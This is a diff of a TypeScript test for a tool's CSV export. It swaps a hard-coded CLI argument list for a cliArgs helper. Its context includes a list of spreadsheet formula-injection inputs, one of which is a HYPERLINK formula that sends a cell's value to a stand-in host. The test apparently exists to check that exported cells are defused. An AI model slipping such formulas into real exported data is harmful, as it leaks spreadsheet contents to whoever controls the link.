@@ -12,6 +12,7 @@ import { parseResponses } from '../src/core/results/responses'
 import { csvCell, toCsv } from '../src/core/results/table'
 import type { Task } from '../src/core/dataset/types'
 import { ROOT, TOOLS, fixtureFiles } from './fixtures'
+import { cliArgs } from './support/cli'
 
 /** Cells a spreadsheet would run as formulas, as a person's name or comment in an imported file could hold them. */
 const FORMULAS = ['=HYPERLINK("http://x.test/?"&A1,"open")', '+1+1', '-1+2', '@SUM(A1:A9)', '\t=1+1', '\r=1+1']
@@ -112,7 +113,7 @@ describe('every CSV the page writes', () => {
     const out = join(dir, 'out')
     const r = spawnSync(
       process.execPath,
-      ['--import', 'tsx', join(ROOT, 'cli/analyze.ts'), '--input_data', join(dir, 'input_data.jsonl'), '--out', out, join(dir, 'response.jsonl')],
+      [...cliArgs('cli/analyze.ts'), '--input_data', join(dir, 'input_data.jsonl'), '--out', out, join(dir, 'response.jsonl')],
       { cwd: ROOT, encoding: 'utf8' },
     )
     expect(r.stderr).toBe('')
